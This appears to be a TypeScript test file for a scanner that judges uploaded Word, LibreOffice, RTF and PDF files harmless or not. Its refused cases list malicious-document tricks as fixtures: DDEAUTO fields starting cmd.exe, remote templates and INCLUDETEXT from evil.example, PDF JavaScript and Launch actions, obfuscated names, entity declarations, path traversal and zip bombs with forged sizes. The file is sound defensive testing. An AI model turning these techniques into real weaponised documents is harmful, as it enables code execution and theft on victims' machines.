import { deflateSync } from 'node:zlib';
import { docm, docx, pdf, wordTypes, zip } from '../../testing/files';
import { isHarmlessArchive } from './inspect-archive';
import { isHarmlessPdf } from './inspect-pdf';
import { isHarmlessRtf } from './inspect-rtf';

const word = (files: Record<string, string>, deflated = false) =>
  zip({ '[Content_Types].xml': wordTypes, 'word/document.xml': '<w:document/>', ...files }, { deflated });
const rels = (attributes: string) => ({
  'word/_rels/document.xml.rels': `<Relationships><Relationship Id="a" ${attributes}/></Relationships>`,
});
const odt = (files: Record<string, string>) =>
  zip({ mimetype: 'application/vnd.oasis.opendocument.text', 'content.xml': '<office:document-content/>', ...files });
const TYPE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const run = (text: string) => `<w:r><w:instrText xml:space="preserve">${text}</w:instrText></w:r>`;
const field = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>';

test.each([
  ['a text of Word', docx],
  [
    'with pictures, links and page numbers',
    word({
      ...rels(`Type="${TYPE}/hyperlink" Target="https://example.ru/?a=1&amp;b=2" TargetMode="External"`),
      'word/media/image1.png': 'PNG',
      'docProps/thumbnail.emf': 'EMF',
      'word/fonts/font1.odttf': 'font',
      'word/footer1.xml': `<w:ftr>${field}${run('PAGE')}${field}${run(' HYPERLINK "https://example.ru" ')}</w:ftr>`,
    }),
  ],
  ['a packed one', word({ 'word/styles.xml': '<w:styles/>' }, true)],
  [
    'a text of LibreOffice',
    odt({
      'META-INF/manifest.xml': '<manifest:manifest/>',
      'Configurations2/accelerator/current.xml': '<accel/>',
      'Thumbnails/thumbnail.png': 'PNG',
      'layout-cache': '\u0001',
      'styles.xml': '<office:document-styles><office:scripts/></office:document-styles>',
    }),
  ],
])('%s is taken', async (_, content) => {
  expect(await isHarmlessArchive(content)).toBe(true);
});

test.each([
  ['no archive', Buffer.from('PK\x03\x04 and nothing more')],
  ['macros of Word', docm],
  ['macros under another name', word({ 'word/vba.bin': 'macro' })],
  [
    'macros with the ending of a text',
    word(rels(`Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="a.xml"`)),
  ],
  ['an embedded document', word({ 'word/embeddings/a.docx': 'PK' })],
  ['an archive inside', word({ 'word/media/a.zip': 'PK' })],
  ['a control', word({ 'word/activeX/activeX1.xml': '<ax/>' })],
  [
    'a template from elsewhere',
    word(rels(`Target="http://evil.example/a.dotm" TargetMode="External" Type="${TYPE}/attachedTemplate"`)),
  ],
  ['a picture from elsewhere', word(rels(`Type="${TYPE}/image" TargetMode='External' Target="//evil.example/a.png"`))],
  [
    'the same with references instead of letters',
    word(rels(`Type="${TYPE}/image" TargetMode="&#69;xternal" Target="//evil.example/a>b"`)),
  ],
  ['text of another format', word(rels(`Type="${TYPE}/aFChunk" Target="a.xml"`))],
  [
    'a field that starts a program',
    word({ 'word/header1.xml': `<w:hdr>${field}${run(' DDEAUTO c:\\\\cmd.exe')}</w:hdr>` }),
  ],
  [
    'the same in pieces',
    word({ 'word/header1.xml': `<w:hdr>${field}${run('DDE')}${run('AUTO')}${run(' c:\\\\cmd')}</w:hdr>` }),
  ],
  ['the same as an attribute', word({ 'word/header1.xml': '<w:fldSimple w:instr="DDE cmd"/>' })],
  ['a document type', word({ 'word/a.xml': '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>' })],
  ['another encoding', word({ 'word/a.xml': '<?xml version="1.0" encoding="UTF-7"?><a/>' })],
  ['two files of one name', word({ 'WORD/document.xml': '<w:document/>' })],
  ['a path out of the folder', word({ '../../a.xml': '<a/>' })],
  ['macros of LibreOffice', odt({ 'Basic/Standard/Module1.xml': '<script:module/>' })],
  ['scripts of LibreOffice', odt({ 'Scripts/python/a.xml': '<a/>' })],
  ['an event', odt({ 'styles.xml': '<a:event-listener a:href="b"/>' })],
  ['a link to a macro', odt({ 'styles.xml': '<text:a xlink:href="macro:///Standard.Module1.Main"/>' })],
  ['the same with references', odt({ 'styles.xml': '<text:a xlink:href="&#x6d;acro:///Standard.Module1.Main"/>' })],
  ['data of another program', odt({ 'styles.xml': '<office:dde-source office:dde-application="soffice"/>' })],
  ['an object of LibreOffice', odt({ 'Object 1/content.xml': '<a/>' })],
  ['a text that is encrypted', odt({ 'META-INF/manifest.xml': '<manifest:encryption-data manifest:checksum="a"/>' })],
])('a document with %s is refused', async (_, content) => {
  expect(await isHarmlessArchive(content)).toBe(false);
});

test('a document that grows is refused: by its sizes, also when they are lies, and by the number of its files', async () => {
  const grown = word({ 'word/media/image1.png': 'x'.repeat(70_000_000) }, true);
  expect(grown.length).toBeLessThan(100_000);
  expect(await isHarmlessArchive(grown)).toBe(false);
  // Both size fields are false: 30 bytes instead of 30 MB.
  const lying = word({ 'word/media/image1.png': 'x'.repeat(30_000_000) }, true);
  const size = Buffer.alloc(4);
  size.writeUInt32LE(30_000_000);
  for (let at = lying.indexOf(size); at >= 0; at = lying.indexOf(size)) lying.writeUInt32LE(30, at);
  expect(await isHarmlessArchive(lying)).toBe(false);
  const many = Object.fromEntries(Array.from({ length: 1_001 }, (_, at) => [`word/a${at}.xml`, '<a/>']));
  expect(await isHarmlessArchive(word(many))).toBe(false);
  expect(await isHarmlessArchive(word({ 'word/a.xml': `<a>${' '.repeat(9_000_000)}</a>` }, true))).toBe(false);
});

const rtf = (text: string) => Buffer.from(`{\\rtf1\\ansi ${text}}`, 'latin1');

test.each([
  ['plain text', "\\pard Резюме: \\'c2\\'e5\\'f0\\'e0\\par"],
  [
    'a link and a page number',
    '{\\field{\\*\\fldinst HYPERLINK "https://example.ru"}{\\fldrslt a}}{\\field{\\*\\fldinst {PAGE}}{\\fldrslt 1}}',
  ],
  ['a picture', '{\\pict\\pngblip 89504e47}'],
])('an RTF with %s is taken', (_, text) => {
  expect(isHarmlessRtf(rtf(text))).toBe(true);
});

test.each([
  ['an object', '{\\object\\objemb{\\*\\objclass Package}{\\*\\objdata 0105}}'],
  ['an object in capitals', '{\\OBJECT{\\*\\OBJDATA 0105}}'],
  ['a template from elsewhere', '{\\*\\template http://evil.example/a.dotm}'],
  ['bytes that are no text', '{\\pict\\bin5 abcde}'],
  ['a field that starts a program', '{\\field{\\*\\fldinst DDEAUTO cmd}{\\fldrslt a}}'],
  ['the same in groups', '{\\field{\\*\\fldinst {\\b D}{\\i DE}{AUTO} cmd}}'],
  ['the same in numbers', "{\\field{\\*\\fldinst \\'44\\'44\\u69 ?AUTO cmd}}"],
  ['text of another file', '{\\field{\\*\\fldinst  INCLUDETEXT "//evil.example/a"}}'],
])('an RTF with %s is refused', (_, text) => {
  expect(isHarmlessRtf(rtf(text))).toBe(false);
});

const pdfWith = (text: string | Buffer) => Buffer.concat([pdf.subarray(0, 9), Buffer.from(text), pdf.subarray(9)]);
const packed = (objects: string, dictionary = '/Type/ObjStm/N 1/First 4/Filter/FlateDecode') =>
  Buffer.concat([
    Buffer.from(`5 0 obj<<${dictionary}>>stream\r\n`),
    deflateSync(`7 0 ${objects}`),
    Buffer.from('\r\nendstream endobj\n'),
  ]);

test.each([
  ['a page', pdf],
  [
    'links, an outline and an opening page',
    pdfWith('<</OpenAction[3 0 R/Fit]/Outlines<</First 4 0 R>>/A<</S/URI/URI(https://example.ru)>>>>'),
  ],
  ['what somebody can do', pdfWith('(HTML/JavaScript, CSS/JavaScript/Launch)Tj <rdf:li>HTML/JavaScript</rdf:li>')],
  ['packed objects', pdfWith(packed('<</Title(HTML)>>'))],
  ['packed text', pdfWith(Buffer.concat([packed('<</A 1>>'), packed('(HTML/JavaScript)Tj', '/Filter/FlateDecode')]))],
])('a PDF with %s is taken', async (_, content) => {
  expect(await isHarmlessPdf(content)).toBe(true);
});

test.each([
  ['a script', pdfWith('<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>')],
  ['a script with spaces', pdfWith('<</S \r\n /JavaScript /JS 5 0 R>>')],
  ['a script in other signs', pdfWith('<</#53/J#61va#53cript/JS(a)>>')],
  ['a script as an object of its own', pdfWith('<</S 9 0 R>> 9 0 obj/JavaScript endobj')],
  ['a program to start', pdfWith('<</Type/Action/S/Launch/F(cmd.exe)>>')],
  ['an embedded file', pdfWith('<</Type/Filespec/EF<</F 5 0 R>>>>')],
  ['embedded files', pdfWith('<</Names<</EmbeddedFiles 5 0 R>>>>')],
  ['a form that is sent', pdfWith('<</S/SubmitForm/F(https://evil.example)>>')],
  ['a form with scripts', pdfWith('<</AcroForm<</XFA 5 0 R>>>>')],
  ['a password', pdfWith('trailer<</Encrypt 5 0 R>>')],
  ['a packed script', pdfWith(packed('<</S/JavaScript/JS(a)>>'))],
  [
    'a packed script under other names',
    pdfWith(packed('<</S/J#61vaScript>>', '/#4e 1/Fi#72st 4/Filter[/FlateDecode]')),
  ],
  ['a script that is packed in another way', pdfWith(packed('a', '/N 1/First 4/Filter[/ASCIIHexDecode/FlateDecode]'))],
  ['packed objects that grow', pdfWith(packed(' '.repeat(40_000_000)))],
  [
    'a script behind a long dictionary',
    pdfWith(packed('<</S/JavaScript>>', `/N 1/First 4${' '.repeat(20_000)}/Filter/FlateDecode`)),
  ],
])('a PDF with %s is refused', async (_, content) => {
  expect(await isHarmlessPdf(content)).toBe(false);
});

test('long texts without an end do not take long', async () => {
  const started = process.cpuUsage();
  const open = '<Relationship '.repeat(500_000);
  expect(await isHarmlessArchive(word({ 'word/_rels/a.xml.rels': open }, true))).toBe(true);
  isHarmlessRtf(rtf('\\fldinst '.repeat(200_000)));
  await isHarmlessPdf(pdfWith(`/First ${'/a#'.repeat(1_000_000)}`));
  // With quadratic time each of them would take minutes.
  expect(process.cpuUsage(started).user).toBeLessThan(20_000_000);
});
